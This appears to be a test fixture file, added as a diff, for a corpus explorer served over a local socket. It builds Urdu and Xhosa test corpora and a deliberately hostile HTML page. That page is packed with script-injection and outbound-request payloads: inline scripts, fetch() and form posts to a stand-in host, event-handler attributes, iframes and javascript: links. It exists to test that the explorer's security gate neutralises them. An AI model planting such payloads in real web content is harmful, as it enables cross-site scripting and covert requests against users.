@@ -1,0 +1,132 @@
+"""An explorer on a real socket, and the corpora that it is tried on."""
+
+import random
+import socket
+import threading
+import time
+from contextlib import contextmanager
+from dataclasses import dataclass
+
+import pytest
+import uvicorn
+
+from corpulyzer.corpus import create, open_corpus
+from corpulyzer.demo.prose import Prose
+from corpulyzer.serve.app import application
+from corpulyzer.serve.explorer import Explorer
+from corpulyzer.serve.security import Gate
+
+OUTSIDE = "http://evil.invalid"
+HOSTILE_TITLE = "<script>document.title='owned'</script> خطرناک صفحہ"
+
+
+@dataclass
+class Served:
+    """An explorer that runs: its address, its corpus, and itself."""
+
+    address: str
+    folder: str
+    explorer: Explorer
+
+    @property
+    def corpus(self):
+        return open_corpus(self.folder)
+
+
+@contextmanager
+def serving(folder, gate=None):
+    explorer = Explorer(str(folder), gate or Gate())
+    opened = socket.create_server(("127.0.0.1", 0))
+    server = uvicorn.Server(uvicorn.Config(application(explorer), log_level="warning", lifespan="off"))
+    thread = threading.Thread(target=server.run, kwargs={"sockets": [opened]}, daemon=True)
+    thread.start()
+    while not server.started:
+        time.sleep(0.02)
+    yield Served(f"http://127.0.0.1:{opened.getsockname()[1]}", str(folder), explorer)
+    server.should_exit = True
+    thread.join(10)
+
+
+def paragraphs(language, seed, count=6):
+    rng = random.Random(seed)
+    return [Prose(language).paragraph(rng) for _ in range(count)]
+
+
+def page(title, body, lang, head=""):
+    return f"<html lang={lang}><head><title>{title}</title>{head}</head><body>{body}</body></html>"
+
+
+def article(language, seed, title):
+    text = "".join(f"<p>{each}</p>" for each in paragraphs(language, seed))
+    menu = "<nav><ul><li><a href=/a>Home</a></li><li><a href=/b>Contact</a></li></ul></nav>"
+    return page(title, f"{menu}<article><h1>{title}</h1>{text}</article>", language)
+
+
+def hostile():
+    """A page that tries everything: scripts, refresh, frames, forms, pictures, styles, links."""
+    head = (
+        f'<meta http-equiv="refresh" content="0;url={OUTSIDE}/refresh"><base href="{OUTSIDE}/">'
+        f'<link rel="stylesheet" href="{OUTSIDE}/x.css"><link rel="dns-prefetch" href="//evil.invalid">'
+        f'<link rel="preconnect" href="{OUTSIDE}"><link rel="prefetch" href="{OUTSIDE}/p">'
+        f"<style>@import '{OUTSIDE}/i.css'; body {{ background: url({OUTSIDE}/bg.png) }}</style>"
+        f"<script>parent.document.title = 'owned'; fetch('{OUTSIDE}/fetch'); alert(1)</script>"
+        f'<script src="{OUTSIDE}/s.js"></script>'
+    )
+    text = "".join(
+        f'<p onclick="top.owned = 1" onmouseover="alert(2)">{each}</p>' for each in paragraphs("urd", 99)
+    )
+    body = (
+        f"<article><h1>x</h1>{text}</article>"
+        f'<img src="{OUTSIDE}/pixel.png" srcset="{OUTSIDE}/2x.png 2x" onerror="top.owned = 1">'
+        f'<form action="{OUTSIDE}/form" method="post"><input name="a" value="b"><button id="send">send</button></form>'
+        f'<iframe src="{OUTSIDE}/frame"></iframe><iframe srcdoc="<script>top.owned = 1</script>"></iframe>'
+        f'<object data="{OUTSIDE}/o"></object><embed src="{OUTSIDE}/e"><video autoplay src="{OUTSIDE}/v.mp4"></video>'
+        f'<svg onload="top.owned = 1"><script>top.owned = 1</script><image href="{OUTSIDE}/svg.png"/></svg>'
+        f'<div style="background-image: url({OUTSIDE}/style.png)">x</div>'
+        f'<a id="out" href="{OUTSIDE}/link" ping="{OUTSIDE}/ping" target="_top">out</a>'
+        f'<a href="javascript:top.owned = 1">script</a>'
+    )
+    return page(HOSTILE_TITLE.replace("<", "&lt;"), body, "ur", head)
+
+
+def make(folder, language, pages):
+    create(language, folder)
+    source = folder / "pages"
+    source.mkdir()
+    for name, text in pages.items():
+        (source / name).write_text(text, "utf-8")
+    corpus = open_corpus(folder, {"engine.workers": 1})
+    with corpus.engine() as engine:
+        corpus.import_paths([str(source)], engine)
+    return corpus
+
+
+@pytest.fixture(scope="session")
+def urdu_folder(tmp_path_factory):
+    """A corpus of Urdu with a copy, a page in another language, and a hostile page."""
+    folder = tmp_path_factory.mktemp("explorer") / "urduweb"
+    pages = {f"{n:02d}.html": article("urd", n, f"خبر {n}") for n in range(14)}
+    pages |= {"copy.html": article("urd", 3, "خبر 3"), "other.html": article("eng", 1, "News")}
+    pages["hostile.html"] = hostile()
+    corpus = make(folder, "urd", pages)
+    corpus.deduplicate()
+    return folder
+
+
+@pytest.fixture(scope="session")
+def xhosa_folder(tmp_path_factory):
+    folder = tmp_path_factory.mktemp("explorer") / "xhosaweb"
+    make(folder, "xho", {f"{n:02d}.html": article("xho", n, f"Indaba {n}") for n in range(6)})
+    return folder
+
+
+@pytest.fixture
+def urdu(urdu_folder):
+    with serving(urdu_folder) as served:
+        yield served
+
+
+@pytest.fixture
+def xhosa(xhosa_folder):
+    with serving(xhosa_folder) as served:
+        yield served
